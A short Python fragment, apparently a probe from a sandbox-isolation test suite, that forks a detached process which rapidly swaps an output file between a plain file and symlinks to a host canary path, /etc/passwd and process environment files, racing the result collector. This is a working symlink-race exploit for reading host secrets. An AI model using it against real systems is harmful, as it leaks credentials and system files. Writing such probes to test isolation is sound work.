# While the result is collected, one name keeps turning from a plain file into a link and back.
os.chdir("{{OUT_DIR}}")
with open("plain", "w") as file:
    file.write("plain")
print("READY", ID, flush=True)
if os.fork() == 0:
    os.setsid()
    for fd in (0, 1, 2):
        os.close(fd)
    targets = ("{{HOST_CANARY_PATH}}", "/etc/passwd", "/proc/1/environ", "/proc/self/environ")
    for turn in range(2_000_000):
        try:
            os.symlink(targets[turn % len(targets)], "next")
            os.rename("next", "swap.txt")
            os.link("plain", "next")
            os.rename("next", "swap.txt")
        except OSError:
            pass
    os._exit(0)
